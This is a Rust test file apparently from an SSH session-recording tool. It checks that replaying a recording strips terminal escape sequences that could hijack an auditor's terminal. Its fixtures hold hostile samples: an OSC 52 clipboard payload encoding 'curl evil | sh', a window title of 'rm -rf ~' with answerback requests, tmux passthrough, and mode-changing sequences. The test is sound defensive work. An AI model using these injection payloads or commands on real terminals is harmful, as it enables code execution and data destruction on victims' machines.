//! `jit-ssh audit play` shows what the session showed, but does not let
//! the recorded output (any user on the host decides it) talk to the
//! auditor's terminal: set the clipboard or the title, make the terminal
//! answer (which types into the auditor's shell once play exits), or
//! change what the auditor's keys and mouse send afterwards.

use std::time::Duration;

use jit_ssh_recording::{
    verify, ChunkPolicy, Encoder, EndReason, Header, PlayOptions, RecordMode, SessionId,
    SessionInfo, Verified,
};
use ssh_key::{Algorithm, PrivateKey};

use super::play_to;

/// A recording of `outputs`, one output event each, verified.
fn recorded(outputs: &[&[u8]]) -> Verified {
    let key = PrivateKey::random(&mut ssh_key::rand_core::OsRng, Algorithm::Ed25519).unwrap();
    let header = Header {
        width: 80,
        height: 24,
        timestamp: 1,
        env: Default::default(),
        session: SessionInfo {
            session_id: SessionId::try_from("s-1").unwrap(),
            key_id: "k".into(),
            serial: "7".into(),
            grant_id: "g".into(),
            user: "mallory".into(),
            host: "db-1.dev".into(),
            account: "oncall".into(),
            record: RecordMode::Output,
        },
    };
    let mut enc = Encoder::new(&header, key.clone(), ChunkPolicy::default()).unwrap();
    let mut chunks = Vec::new();
    for (i, o) in outputs.iter().enumerate() {
        chunks.extend(enc.push_output(Duration::from_millis(i as u64), o).unwrap());
    }
    chunks.extend(enc.flush().unwrap());
    let line = enc.header_line().to_owned();
    let done = enc.finish(Duration::from_secs(1), EndReason::Exit).unwrap();
    chunks.extend(done.chunks);
    verify(&line, chunks, key.public_key(), Some(&done.final_hash)).unwrap()
}

fn played(outputs: &[&[u8]]) -> String {
    let v = recorded(outputs);
    let mut out = Vec::new();
    let fast = PlayOptions {
        speed: 1000.0,
        idle_limit: None,
    };
    play_to(&v, fast, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

#[test]
fn recorded_output_cannot_set_the_auditors_clipboard_title_or_make_the_terminal_answer() {
    let shown = played(&[
        b"$ ls\r\n\x1b[31mred\x1b[0m file\r\n",
        // OSC 52: put a command on the auditor's clipboard (BEL and ST
        // ends), split across two events as a pty read may split it.
        b"\x1b]52;c;Y3VybCBldmlsIHwgc2gK\x07\x1b]52;p;Y3Vy",
        b"bCBldmlsIHwgc2gK\x1b\\",
        // Window title, then asking the terminal to type it back (xterm
        // window ops), the cursor position, device attributes, ENQ.
        b"\x1b]0;rm -rf ~\x07\x1b[21t\x1b[6n\x1b[c\x1b[>c\x05",
        // DCS: tmux passthrough of any sequence to the outer terminal,
        // and a DECRQSS query; APC, PM; 8-bit (C1) CSI and OSC.
        b"\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\\x1bP$qm\x1b\\\x1b_x\x1b\\\x1b^y\x1b\\",
        "\u{9b}6n\u{9d}2;t\u{9c}".as_bytes(),
        // Modes that change what the auditor's mouse and keys send after
        // play exits: mouse reporting, bracketed paste, application keys.
        b"\x1b[?1000;1006h\x1b[?2004h\x1b[?1h\x1b=",
        // What a full-screen program needs still plays: alternate
        // screen, clearing, moving the cursor, hiding it.
        b"\x1b[?1049h\x1b[2J\x1b[H\x1b[?25ltop\x1b[5;10Hload 0.1",
    ]);
    for (bad, what) in [
        ("\x1b]", "an OSC sequence (clipboard, title)"),
        ("52;", "the clipboard payload"),
        ("rm -rf", "the title text"),
        ("\x1b[21t", "a title report request"),
        ("\x1b[6n", "a cursor position request"),
        ("\x1b[c", "a device attributes request"),
        ("\x1b[>c", "a secondary device attributes request"),
        ("\x05", "ENQ (answerback)"),
        ("\x1bP", "a DCS string"),
        ("tmux;", "a tmux passthrough"),
        ("\x1b_", "an APC string"),
        ("\x1b^", "a PM string"),
        ("\u{9b}", "a C1 CSI"),
        ("\u{9d}", "a C1 OSC"),
        ("\x1b[?1000", "mouse reporting"),
        ("\x1b[?2004h", "bracketed paste"),
        ("\x1b[?1h", "application cursor keys"),
        ("\x1b=", "application keypad"),
    ] {
        assert!(
            !shown.contains(bad),
            "{what} reached the terminal: {shown:?}"
        );
    }
    for good in [
        "$ ls\r\n",
        "\x1b[31mred\x1b[0m file\r\n",
        "\x1b[?1049h\x1b[2J\x1b[H\x1b[?25ltop\x1b[5;10Hload 0.1",
    ] {
        assert!(shown.contains(good), "{good:?} is missing: {shown:?}");
    }
    // The terminal is given back as play found it: colours reset, the
    // cursor shown, the main screen.
    let tail = &shown[shown.rfind("load 0.1").unwrap()..];
    for restore in ["\x1b[0m", "\x1b[?25h", "\x1b[?1049l", "\x1b[r"] {
        assert!(
            tail.contains(restore),
            "{restore:?} not sent at the end: {tail:?}"
        );
    }
}
